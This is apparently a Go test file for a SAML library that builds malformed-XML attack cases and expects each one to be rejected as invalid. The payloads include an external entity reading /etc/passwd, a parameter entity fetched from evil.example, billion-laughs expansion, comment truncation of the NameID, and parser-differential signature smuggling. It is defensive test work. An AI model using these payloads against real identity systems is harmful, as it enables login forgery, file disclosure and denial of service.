package samltest

import (
	"strings"

	"sallyport/saml"
)

// markups use what XML has and a message does not need: comments that cut a
// value short, entities, processing instructions, names that parsers disagree
// on. Where the signature still holds in canonical form, so much the worse.
func markups() []Attack {
	const nameID = ">" + Email + "</saml:NameID>"
	list := []Attack{
		{"doctype", "a document type declaration", "", prolog(`<!DOCTYPE Response>`)},
		{"doctype-behind-comment", "a document type declaration behind white space", "", prolog("\n <!DOCTYPE Response SYSTEM 'r.dtd'>\n")},
		{"entity", "an internal entity for the address", "", func(s Scene) string {
			return `<!DOCTYPE r [<!ENTITY who "` + Victim + `">]>` + replace(s.onlyAssertion().String(), Email, "&who;")
		}},
		{"entity-expansion", "a billion laughs", "", billionLaughs},
		{"external-entity", "an entity that is a file", "", func(s Scene) string {
			return `<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>` + replace(s.onlyAssertion().String(), Email, "&f;")
		}},
		{"parameter-entity", "a parameter entity that is fetched", "", prolog(`<!DOCTYPE r [<!ENTITY % f SYSTEM "https://evil.example/x.dtd"> %f;]>`)},
		{"attribute-default", "a DOCTYPE that gives every Response an attribute", "", prolog(`<!DOCTYPE r [<!ATTLIST r ID ID #IMPLIED>]>`)},
		{"parser-differential-quotes", "a DOCTYPE whose quotes end elsewhere for another parser, and hide a second signature (ruby-saml, 2025)", "", differentQuotes},
		{"parser-differential-namespace", "a second signature, in the namespace of signatures only where a DOCTYPE's default attributes count (ruby-saml, 2025)", "", differentNamespace},
		{"undeclared-entity", "an entity that HTML knows and XML does not", "", after(nameID, ">user&nbsp;@acme.test</saml:NameID>")},
		{"processing-instruction", "a processing instruction in the address", "", after(nameID, ">"+Victim+"<?x?>.evil.example</saml:NameID>")},
		{"comment-in-nameid", "a comment that cuts the address short (2018)", "", truncated("<!---->")},
		{"cdata-in-nameid", "a CDATA section that cuts the address short", "", truncated("<![CDATA[]]>")},
		{"cdata-nameid", "the address as a CDATA section", "", after(nameID, "><![CDATA["+Email+"]]></saml:NameID>")},
		{"comment-in-issuer", "a comment in the Issuer", "", after("</saml:Issuer>", "<!----></saml:Issuer>")},
		{"comment-in-audience", "a comment in the Audience", "", after("</saml:Audience>", "<!----></saml:Audience>")},
		{"comment-before-root", "a comment before the document element", "", prolog("<!-- -->")},
		{"comment-behind-root", "a comment behind the document element", "", func(s Scene) string { return s.onlyAssertion().String() + "<!---->" }},
		{"roundtrip-directive", "a directive that Go's encoding/xml wrote back as something else (2020)", "", prolog("<!<!-- -->-->")},
		{"roundtrip-element", "an element whose name is a colon and a name", "", after("<saml:Subject>", `<saml:Subject><:x></:x>`)},
		{"roundtrip-attribute", "an attribute whose name is a colon and a name", "", after("<saml:Subject>", `<saml:Subject :a="b">`)},
		{"roundtrip-two-colons", "an element with two colons", "", after("<saml:Subject>", `<saml:Subject><a:b:c xmlns:a="urn:a" xmlns:b="urn:b"></a:b:c>`)},
		{"xmlns-rebound", "the prefix xmlns bound anew", "", after("<saml:Subject>", `<saml:Subject xmlns:xmlns="urn:x">`)},
		{"xml-rebound", "the prefix xml bound anew", "", after("<saml:Subject>", `<saml:Subject xmlns:xml="urn:x">`)},
		{"prefix-unbound", "a prefix bound to nothing", "", after("<saml:Subject>", `<saml:Subject xmlns:p="">`)},
		{"prefix-undeclared", "an element with an undeclared prefix", "", after("<saml:Subject>", `<saml:Subject><p:x></p:x>`)},
		{"attribute-twice", "an attribute twice by different prefixes", "", after("<saml:Subject>", `<saml:Subject xmlns:a="urn:x" xmlns:b="urn:x" a:c="1" b:c="2">`)},
		{"id-twice", "two ID attributes", "", after(`ID="_assertion1"`, `ID="_assertion1" ID="_other"`)},
		{"utf-16", "UTF-16", "", func(s Scene) string {
			return "\xFE\xFF" + strings.Join(append([]string{""}, strings.Split(s.onlyAssertion().String(), "")...), "\x00")
		}},
		{"utf-7", "an encoding that hides markup", "", prolog(`<?xml version="1.0" encoding="UTF-7"?>`)},
		{"latin-1", "ISO-8859-1", "", func(s Scene) string {
			return `<?xml version="1.0" encoding="ISO-8859-1"?>` + replace(s.onlyAssertion().String(), "Test User", "T\xe9st User")
		}},
		{"overlong-utf8", "an overlong encoding of <", "", after(nameID, ">user\xC0\xBC@acme.test</saml:NameID>")},
		{"surrogate", "a surrogate in UTF-8", "", after(nameID, ">user\xED\xA0\x80@acme.test</saml:NameID>")},
		{"nul", "a NUL in the address", "", after(nameID, ">"+Victim+"\x00.evil.example</saml:NameID>")},
		{"nul-reference", "a character reference to NUL", "", after(nameID, ">"+Victim+"&#0;.evil.example</saml:NameID>")},
		{"xml-1.1", "XML 1.1, in which controls are allowed", "", prolog(`<?xml version="1.1"?>`)},
		{"truncated", "the end is missing", "", func(s Scene) string {
			text := s.onlyAssertion().String()
			return text[:len(text)-20]
		}},
		{"two-documents", "a second document behind the first", "", func(s Scene) string {
			text := s.onlyAssertion().String()
			return text + text
		}},
		{"deep", "elements nested 65 deep", "", func(s Scene) string {
			r := s.onlyAssertion()
			r.Assertion.Advice = XML(strings.Repeat("<x>", 62) + strings.Repeat("</x>", 62))
			return r.String()
		}},
	}
	for i := range list {
		list[i].Code = saml.CodeXMLInvalid
	}
	return list
}

// prolog puts text before the message.
func prolog(text string) func(Scene) string {
	return func(s Scene) string { return text + s.onlyAssertion().String() }
}

// after changes the message behind the signature.
func after(old, with string) func(Scene) string {
	return func(s Scene) string { return replace(s.onlyAssertion().String(), old, with) }
}

// truncated is an address that the Identity Provider signed for somebody at
// another domain, with markup put into it that canonicalization drops.
func truncated(markup string) func(Scene) string {
	return func(s Scene) string {
		r := s.onlyAssertion()
		r.Assertion.NameID.Value = Victim + ".evil.example"
		return replace(r.String(), Victim+".evil.example", Victim+markup+".evil.example")
	}
}

// differentQuotes: a parser that takes the quote in the comment for one of the
// declaration's sees the forged signature, another the good one.
func differentQuotes(s Scene) string {
	return `<!DOCTYPE r [<!ENTITY q "'"><!NOTATION n PUBLIC "<!-- ' -->" "]><!--">]>` +
		replace(s.onlyAssertion().String(), "<saml:Subject>", `<!-- ' --><ds:Signature xmlns:ds="`+nsSignature+`"/><saml:Subject>`)
}

// differentNamespace: the element Signature is in no namespace, unless the
// DOCTYPE gives it one.
func differentNamespace(s Scene) string {
	return `<!DOCTYPE r [<!ATTLIST Signature xmlns CDATA #FIXED "` + nsSignature + `">]>` +
		replace(s.onlyAssertion().String(), "<saml:Subject>", `<Signature/><saml:Subject>`)
}

func billionLaughs(s Scene) string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE r [<!ENTITY a0 "ha">`)
	for i := range 10 {
		from, to := string(rune('0'+i)), string(rune('1'+i))
		b.WriteString(`<!ENTITY a` + to + ` "` + strings.Repeat("&a"+from+";", 10) + `">`)
	}
	return b.String() + "]>" + replace(s.onlyAssertion().String(), Email, "&a9;")
}
